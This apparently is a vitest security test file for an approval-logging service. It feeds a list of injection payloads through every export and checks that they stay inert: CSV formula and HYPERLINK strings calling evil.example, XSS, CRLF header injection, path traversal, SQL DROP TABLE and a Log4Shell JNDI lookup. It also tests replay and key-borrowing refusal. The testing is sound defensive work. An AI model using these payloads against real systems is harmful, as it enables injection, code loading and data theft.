import { expect, it } from 'vitest';
import { attemptData, newDevice } from '../../support/device.ts';
import { verified } from '../../support/judge-mutations.ts';
import { ADMIN, codeOf, enrolled, startService } from '../running-service.ts';

const headers = { authorization: `Bearer ${ADMIN}` };

/** What a spreadsheet, a header, a page, a file system or a line-based format could take for more than letters. */
const payloads = [
  '=HYPERLINK("http://evil.example","x")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r\nSet-Cookie: a=b',
  '＝1＋1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../etc/passwd',
  '..\\..\\windows\\system32',
  '"},"signature":"',
  '{"manifest":{},"signature":"x"}',
  '","hash":"AAAA","id":"',
  'line\u2028separator',
  '\u202Egpj.exe',
  "'; DROP TABLE record; --",
  '${jndi:ldap://evil.example/a}',
  '%0d%0aX: y',
  '\u0000end',
];

/** A name with the sign no database keeps in a text is refused (`tests/service/ingest.test.ts`); in words it is kept. */
const nameOf = (word: string): string => word.replaceAll('\u0000', '');

/** Every field of an attempt that is the sender's own words, each with a payload of its own. */
const fields = (at: number) => {
  const word = (offset: number): string => payloads[(at + offset) % payloads.length]!;
  const policy = { id: word(5), revision: 1, source: word(6) };
  const content = { hash: word(7), length: 1, kind: word(8) };
  return {
    ...attemptData,
    tool: nameOf(word(0)),
    account: word(1),
    rule: word(2),
    reason: word(3),
    approval: word(4),
    policy,
    content,
  };
};

const cellsOf = (csv: string): string[] => [...csv.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell = '']) => cell);

async function stand() {
  const service = await startService();
  const device = newDevice();
  const { serviceKey } = await enrolled(service.origin, device);
  return { ...service, device, serviceKey };
}

it('carries every payload in every field through every export, as letters and nothing more', async () => {
  const { origin, device, serviceKey } = await stand();
  const records = payloads.map((_, at) => device.record({ data: fields(at) }));
  expect(((await (await device.send(origin, records)).json()) as { rejected: unknown[] }).rejected).toEqual([]);
  const read = async (path: string) => fetch(`${origin}/v1/${path}`, { headers });

  const csv = await (await read('records?format=csv')).text();
  const formulas = cellsOf(csv).filter((cell) => /^[\s\0]*[=+\-@＝＋]/.test(cell));
  expect(formulas).toEqual([]);
  const lines = (await (await read('records?format=ndjson')).text()).trimEnd().split('\n');
  expect(lines.map((line) => (JSON.parse(line) as { hash: string }).hash)).toEqual(records.map(({ hash }) => hash));
  const report = await verified(await (await read('evidence')).text(), serviceKey.x);
  expect(report).toMatchObject({ whole: true, records: records.length });
  for (const path of ['records', 'records?format=csv', 'records?format=ndjson', 'evidence', 'cases']) {
    const reply = await read(path);
    expect(reply.headers.get('x-content-type-options')).toBe('nosniff');
    expect(reply.headers.get('content-type')).not.toContain('html');
    expect(reply.headers.get('set-cookie')).toBeNull();
    await reply.arrayBuffer();
  }
});

it('keeps what a request for approval says as words, and refuses signs in an answer', async () => {
  const { origin, device } = await stand();
  for (const [at, reason] of payloads.entries()) {
    const asked = {
      event: 'asked',
      approval: `c${at}`,
      tool: nameOf(reason),
      detectors: [],
      contentHash: reason,
      reason,
    };
    await device.send(origin, [device.record({ type: 'slateguard.approval', data: asked })]);
  }
  const { cases } = (await (await fetch(`${origin}/v1/cases`, { headers })).json()) as { cases: { reason: string }[] };
  // What no database keeps is shown to have been there.
  const shown = payloads.map((words) => words.replaceAll('\u0000', '\uFFFD'));
  expect(cases.map(({ reason }) => reason)).toEqual(shown);
  const answer = (by: string) =>
    fetch(`${origin}/v1/cases/c0/answer`, {
      method: 'POST',
      headers: { ...headers, 'content-type': 'application/json' },
      body: JSON.stringify({ verdict: 'approved', by }),
    });
  for (const by of ['a\nApproved by the studio', 'a\u202Eb', 'a\u0000b', '', ' ', 'x'.repeat(201)])
    expect((await answer(by)).status).toBe(400);
});

it('tells answers to no copied request, no other key and no other path', async () => {
  const { origin, device } = await stand();
  const stranger = newDevice();
  const path = '/v1/answers';
  const proof = device.proof('GET', path, new Uint8Array());
  const ask = (over: Record<string, string> = {}, at = path) => fetch(origin + at, { headers: { ...proof, ...over } });
  expect((await ask()).status).toBe(200);
  expect(await codeOf(await ask())).toBe('replay');
  expect((await ask({}, `${path}?after=MTow`)).status).toBe(401);
  const theirs = stranger.proof('GET', path, new Uint8Array());
  const borrowed = { ...theirs, 'slateguard-device': device.id };
  expect((await fetch(origin + path, { headers: borrowed })).status).toBe(401);
  expect((await fetch(origin + path, { headers: { ...headers } })).status).toBe(401);
  expect(
    (await fetch(`${origin}/v1/cases`, { headers: device.proof('GET', '/v1/cases', new Uint8Array()) })).status,
  ).toBe(401);
});
